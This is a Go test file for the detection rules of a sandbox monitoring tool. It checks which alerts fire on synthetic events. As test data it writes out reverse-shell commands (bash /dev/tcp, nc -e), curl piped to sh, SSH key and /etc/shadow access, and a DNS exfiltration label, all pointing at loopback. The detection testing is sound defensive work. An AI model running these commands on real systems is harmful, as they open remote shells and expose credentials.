package rules

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/sandtrail/sandtrail/policies"
	"github.com/sandtrail/sandtrail/record/event"
)

func u32(v uint32) *uint32 { return &v }

// stream gives events their seqs, session and times, in order.
type stream struct {
	seq uint64
	ts  time.Time
}

func (s *stream) ev(kind string, e event.Event) *event.Event {
	s.seq++
	s.ts = s.ts.Add(time.Second)
	e.V, e.Seq, e.TS, e.Kind = event.SchemaVersion, s.seq, s.ts, kind
	if e.SessionID == "" {
		e.SessionID = "s1"
	}
	if e.Source == "" {
		e.Source = event.SourceKernel
	}
	return &e
}

func start(s *stream, uid uint32) *event.Event {
	return s.ev(event.KindSessionStart, event.Event{Source: event.SourceSession, Proc: &event.Proc{Pid: 10, UID: u32(uid)},
		Session: &event.Session{Op: "start"}})
}

func execOf(s *stream, pid, ppid int32, uid uint32, comm string, argv ...string) *event.Event {
	return s.ev(event.KindExec, event.Event{Proc: &event.Proc{Pid: pid, PPid: ppid, UID: u32(uid), Comm: comm,
		Exe: "/usr/bin/" + comm, ExePath: "/usr/bin/" + comm, Argv: argv}})
}

func fileOf(s *stream, pid int32, uid uint32, op, path string) *event.Event {
	return s.ev("file."+op, event.Event{Proc: &event.Proc{Pid: pid, UID: u32(uid)}, File: &event.File{Op: op, Path: path}})
}

func connectOf(s *stream, pid int32, uid uint32, comm, verdict string) *event.Event {
	return s.ev(event.KindNetConnect, event.Event{Proc: &event.Proc{Pid: pid, UID: u32(uid), Comm: comm},
		Net: &event.Net{Op: "connect", Proto: "tcp", DstIP: "127.0.0.1", DstPort: 4444, Verdict: verdict}})
}

func dnsOf(s *stream, q string) *event.Event {
	return s.ev(event.KindNetDNS, event.Event{Source: event.SourceKernel, Proc: &event.Proc{Pid: 20},
		Net: &event.Net{Op: "dns", DNS: &event.DNS{Query: q, QType: "A"}}})
}

func pipeExec(s *stream, pid int32, comm string, from *event.PipePeer, to *event.PipePeer, argv ...string) *event.Event {
	e := execOf(s, pid, 20, 1000, comm, argv...)
	e.Proc.StdinFrom, e.Proc.StdoutTo = from, to
	return e
}

// TestBuiltinRules runs the built-in rules over the stream of each
// scenario, and of a clean control like it, and checks which rules raise.
func TestBuiltinRules(t *testing.T) {
	curl := &event.PipePeer{Pid: 21, Comm: "curl", Argv: []string{"curl", "-s", "http://127.0.0.1:8000/s.sh"}}
	sh := &event.PipePeer{Pid: 22, Comm: "sh", Argv: []string{"sh"}}
	b64 := &event.PipePeer{Pid: 23, Comm: "base64", Argv: []string{"base64", "-d"}}
	tests := []struct {
		name   string
		events func(s *stream) []*event.Event
		want   []string
	}{
		{"curl | sh, sh second", func(s *stream) []*event.Event {
			return []*event.Event{pipeExec(s, 22, "sh", curl, nil, "sh")}
		}, []string{"download_piped_to_shell"}},
		{"curl | sh, curl second", func(s *stream) []*event.Event {
			return []*event.Event{pipeExec(s, 21, "curl", nil, sh, "curl", "-s", "http://127.0.0.1:8000/s.sh")}
		}, []string{"download_piped_to_shell"}},
		{"control: curl | grep", func(s *stream) []*event.Event {
			return []*event.Event{pipeExec(s, 22, "grep", curl, nil, "grep", "x")}
		}, nil},
		{"base64 -d | sh", func(s *stream) []*event.Event {
			return []*event.Event{pipeExec(s, 22, "bash", b64, nil, "bash")}
		}, []string{"base64_piped_to_shell"}},
		{"control: base64 | sh (encoding)", func(s *stream) []*event.Event {
			return []*event.Event{pipeExec(s, 22, "sh", &event.PipePeer{Pid: 23, Comm: "base64", Argv: []string{"base64", "-w0"}}, nil, "sh")}
		}, nil},
		{"bash -i >& /dev/tcp", func(s *stream) []*event.Event {
			return []*event.Event{execOf(s, 30, 20, 1000, "bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")}
		}, []string{"reverse_shell_command"}},
		{"nc -e", func(s *stream) []*event.Event {
			return []*event.Event{execOf(s, 30, 20, 1000, "nc", "nc", "127.0.0.1", "4444", "-e", "/bin/sh")}
		}, []string{"reverse_shell_command"}},
		{"bash connects out", func(s *stream) []*event.Event { return []*event.Event{connectOf(s, 30, 1000, "bash", "allowed")} },
			[]string{"reverse_shell_connect"}},
		{"control: curl connects out", func(s *stream) []*event.Event { return []*event.Event{connectOf(s, 30, 1000, "curl", "allowed")} }, nil},
		{"direct URL install blocked", func(s *stream) []*event.Event {
			return []*event.Event{s.ev(event.KindPkgBlocked, event.Event{Source: event.SourceShim, Pkg: &event.Pkg{Manager: "npm", Ecosystem: "npm",
				Name: "x", Requested: "http://127.0.0.1:9/x.tgz", Verdict: "block", Rule: "on_unknown_source"}})}
		}, []string{"non_registry_source"}},
		{"control: registry install", func(s *stream) []*event.Event {
			return []*event.Event{s.ev(event.KindPkgInstall, event.Event{Source: event.SourceShim, Pkg: &event.Pkg{Manager: "npm", Ecosystem: "npm",
				Name: "x", Resolved: "1.0.0", Verdict: "allow"}})}
		}, nil},
		{"authorized_keys written", func(s *stream) []*event.Event {
			return []*event.Event{fileOf(s, 30, 1000, "write", "/home/agent/.ssh/authorized_keys")}
		}, []string{"credential_write"}},
		{"control: known_hosts written", func(s *stream) []*event.Event {
			return []*event.Event{fileOf(s, 30, 1000, "write", "/home/agent/.ssh/known_hosts")}
		}, nil},
		{"control: .ssh made", func(s *stream) []*event.Event {
			e := fileOf(s, 30, 1000, "create", "/home/agent/.ssh")
			e.File.Dir = true
			return []*event.Event{e}
		}, nil},
		{"hard link to a key", func(s *stream) []*event.Event {
			e := fileOf(s, 30, 1000, "link", "/tmp/k")
			e.File.Target = "/home/agent/.ssh/id_ed25519"
			return []*event.Event{e}
		}, []string{"credential_link_or_rename"}},
		{"root gained: setresuid then exec", func(s *stream) []*event.Event {
			return []*event.Event{start(s, 1000), execOf(s, 30, 10, 1000, "exploit", "./exploit"),
				execOf(s, 31, 30, 0, "sh", "sh"), fileOf(s, 31, 0, "read", "/etc/shadow"), connectOf(s, 31, 0, "python3", "allowed")}
		}, []string{"uid0_exec", "uid0_sensitive_read", "uid0_connect"}},
		{"root gained, journaled after the session's cleanup", func(s *stream) []*event.Event {
			return []*event.Event{start(s, 1000),
				s.ev(event.KindSessionCleanup, event.Event{Source: event.SourceSession, Session: &event.Session{Op: "cleanup"}}),
				execOf(s, 30, 10, 1000, "exploit", "./exploit"), execOf(s, 31, 30, 0, "sh", "sh")}
		}, []string{"uid0_exec"}},
		{"control: root daemon's apt in the session", func(s *stream) []*event.Event {
			return []*event.Event{start(s, 1000), execOf(s, 40, 1, 0, "apt-get", "apt-get", "install", "jq"),
				execOf(s, 41, 40, 0, "dpkg", "dpkg", "-i"), fileOf(s, 41, 0, "read", "/etc/shadow"), connectOf(s, 40, 0, "http", "allowed")}
		}, nil},
		{"agent is root", func(s *stream) []*event.Event { return []*event.Event{start(s, 0)} }, []string{"agent_uid0"}},
		{"control: root agent's execs", func(s *stream) []*event.Event {
			return []*event.Event{start(s, 0), execOf(s, 30, 10, 0, "sh", "sh")}[1:]
		}, nil},
		{"oom", func(s *stream) []*event.Event {
			return []*event.Event{s.ev(event.KindSessionTerminate, event.Event{Source: event.SourceSession, Session: &event.Session{Op: "terminate", Reason: "oom"}})}
		}, []string{"session_ended_badly"}},
		{"control: normal end", func(s *stream) []*event.Event {
			return []*event.Event{s.ev(event.KindSessionTerminate, event.Event{Source: event.SourceSession, Session: &event.Session{Op: "terminate", Reason: "normal"}})}
		}, nil},
		{"long label", func(s *stream) []*event.Event {
			return []*event.Event{dnsOf(s, "aGVsbG8gd29ybGQgdGhpcyBpcyBleGZpbHRyYXRlZA.example.test")}
		}, []string{"dns_long_label"}},
		{"control: registry name", func(s *stream) []*event.Event { return []*event.Event{dnsOf(s, "registry.npmjs.org")} }, nil},
		{"DoH lookup", func(s *stream) []*event.Event { return []*event.Event{dnsOf(s, "mozilla.cloudflare-dns.com")} }, []string{"doh_lookup"}},
		{"DoH connect", func(s *stream) []*event.Event {
			e := connectOf(s, 30, 1000, "curl", "flagged")
			e.Net.Reason = "127.0.0.7:443: DNS-over-HTTPS endpoint, whose lookups bypass the DNS record"
			return []*event.Event{e}
		}, []string{"doh_endpoint"}},
		{"ten blocked connects in a minute", func(s *stream) []*event.Event {
			var out []*event.Event
			for range 10 {
				out = append(out, connectOf(s, 30, 1000, "python3", "blocked"))
			}
			return out
		}, []string{"blocked_connection_burst"}},
		{"control: nine blocked connects", func(s *stream) []*event.Event {
			var out []*event.Event
			for range 9 {
				out = append(out, connectOf(s, 30, 1000, "python3", "blocked"))
			}
			return out
		}, nil},
		{"argv hiding its middle", func(s *stream) []*event.Event {
			e := execOf(s, 30, 20, 1000, "sh", "sh", "-c", "x")
			e.Proc.ArgvTruncated, e.Proc.ArgvSize = true, 200000
			return []*event.Event{e}
		}, []string{"argv_hidden_middle"}},
		{"control: argv within head and tail", func(s *stream) []*event.Event {
			e := execOf(s, 30, 20, 1000, "sh", "sh", "-c", "x")
			e.Proc.ArgvTruncated, e.Proc.ArgvSize = true, 36000
			return []*event.Event{e}
		}, nil},
		{"memfd exec", func(s *stream) []*event.Event {
			e := execOf(s, 30, 20, 1000, "3", "/proc/self/fd/3")
			e.Proc.Fileless, e.Proc.ExePath = true, "/memfd:x (deleted)"
			return []*event.Event{e}
		}, []string{"fileless_exec"}},
	}
	set, err := Load(policies.Detections{})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := NewDetector(set, nil)
			var got []string
			for _, e := range tc.events(&stream{ts: time.Unix(1e9, 0)}) {
				for _, a := range d.Add(e) {
					got = append(got, set.Find(a.Alert.RuleID).Name)
				}
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("alerts = %v, want %v", got, tc.want)
			}
		})
	}
}

// TestAlertEvent checks what an alert says: the rule, the level, the
// tags, the refs and a summary, once per distinct summary.
func TestAlertEvent(t *testing.T) {
	set, err := Load(policies.Detections{})
	if err != nil {
		t.Fatal(err)
	}
	d := NewDetector(set, []Option{WithHost("h1")})
	s := &stream{ts: time.Unix(1e9, 0)}
	e := execOf(s, 30, 20, 1000, "bash", "bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/4444")
	as := d.Add(e)
	if len(as) != 1 {
		t.Fatalf("Add = %d alerts, want 1", len(as))
	}
	a := as[0]
	r := set.Find("reverse_shell_command")
	if a.Kind != event.KindAlert || a.Source != event.SourceRules || a.SessionID != "s1" || a.Host != "h1" ||
		a.Alert.RuleID != r.ID || a.Alert.Title != r.Title || a.Alert.Level != "high" ||
		!slices.Equal(a.Alert.Refs, []uint64{e.Seq}) || !slices.Equal(a.Alert.Tags, r.Tags) ||
		!strings.Contains(a.Alert.Summary, "/dev/tcp/127.0.0.1/4444") || a.Proc == nil || a.Proc.Pid != 30 {
		t.Errorf("alert = %+v %+v", a, a.Alert)
	}
	if err := a.Validate(); err != nil {
		t.Errorf("alert does not validate: %v", err)
	}
	e.Seq = 99
	if as := d.Add(e); len(as) != 0 {
		t.Errorf("the same exec again raised %d alerts, want 0", len(as))
	}
}

// TestAlertBound checks that a rule raises at most MaxAlertsPerRule alerts
// in a session and that the rest are a loss event at its cleanup.
func TestAlertBound(t *testing.T) {
	set, err := Load(policies.Detections{})
	if err != nil {
		t.Fatal(err)
	}
	d := NewDetector(set, nil)
	s := &stream{ts: time.Unix(1e9, 0)}
	n := 0
	for i := range MaxAlertsPerRule + 7 {
		n += len(d.Add(execOf(s, int32(100+i), 20, 1000, "nc", "nc", "-e", "/bin/sh", "127.0.0.1", "4444")))
	}
	if n != MaxAlertsPerRule {
		t.Errorf("alerts = %d, want %d", n, MaxAlertsPerRule)
	}
	out := d.Add(s.ev(event.KindSessionCleanup, event.Event{Source: event.SourceSession, Session: &event.Session{Op: "cleanup"}}))
	if len(out) != 1 || out[0].Loss == nil || out[0].Loss.Count != 7 || out[0].Loss.LostKind != event.KindAlert ||
		out[0].Loss.Source != LossSource+set.Find("reverse_shell_command").ID {
		t.Fatalf("cleanup = %+v, want one loss of 7 alerts", out)
	}
	if err := out[0].Validate(); err != nil {
		t.Errorf("loss does not validate: %v", err)
	}
}

// TestPolicyDetections checks the policy's detections section: a rule
// disabled raises nothing, a level set is the alert's, agent_uid0: allow
// disables agent_uid0, an extra rule file loads with the built-in ones,
// and a name no rule has is an error.
func TestPolicyDetections(t *testing.T) {
	dir := t.TempDir()
	extra := filepath.Join(dir, "extra.yml")
	if err := os.WriteFile(extra, []byte(`title: Touch of a marker
id: 9a1d4f6c-0b3e-4d57-8a2c-6e1f0b9d3c47
logsource: {product: sandtrail, category: file}
detection:
    selection:
        file.path|endswith: /marker
    condition: selection
level: low
`), 0o644); err != nil {
		t.Fatal(err)
	}
	p, err := policies.Parse("p.yaml", []byte(`version: 1
agent_uid0: allow
detections:
  rules: [`+extra+`]
  disable: [fileless_exec]
  levels:
    reverse_shell_command: critical
    9a1d4f6c-0b3e-4d57-8a2c-6e1f0b9d3c47: medium
`))
	if err != nil {
		t.Fatal(err)
	}
	pol, err := policies.New(p)
	if err != nil {
		t.Fatal(err)
	}
	set, err := Load(pol.Detections())
	if err != nil {
		t.Fatal(err)
	}
	d := NewDetector(set, nil)
	s := &stream{ts: time.Unix(1e9, 0)}
	levels := map[string]string{}
	mem := execOf(s, 30, 20, 1000, "3", "x")
	mem.Proc.Fileless = true
	for _, e := range []*event.Event{start(s, 0), mem, execOf(s, 31, 20, 1000, "nc", "nc", "-e", "/bin/sh"), fileOf(s, 31, 1000, "create", "/tmp/marker")} {
		for _, a := range d.Add(e) {
			levels[a.Alert.Title] = a.Alert.Level
		}
	}
	want := map[string]string{"Reverse shell": "critical", "Touch of a marker": "medium"}
	if len(levels) != len(want) || levels["Reverse shell"] != "critical" || levels["Touch of a marker"] != "medium" {
		t.Errorf("alerts by title = %v, want %v", levels, want)
	}
	view, err := Load(policies.Detections{Disable: []string{"shim_bypass"}, Levels: map[string]string{"unverified_install": "low"}})
	if err != nil {
		t.Fatal(err)
	}
	unverified := &event.Alert{RuleID: "unverified_install", Level: "high"}
	if view.Apply(&event.Alert{RuleID: "shim_bypass", Level: "high"}) || !view.Apply(unverified) || unverified.Level != "low" {
		t.Errorf("Apply: shim_bypass kept, or unverified_install at %q; want dropped, low", unverified.Level)
	}
	for _, d := range []policies.Detections{{Disable: []string{"no_such_rule"}}, {Levels: map[string]string{"nope": "low"}}, {Rules: []string{filepath.Join(dir, "missing.yml")}}} {
		if _, err := Load(d); err == nil {
			t.Errorf("Load(%+v) = nil error, want one", d)
		}
	}
}
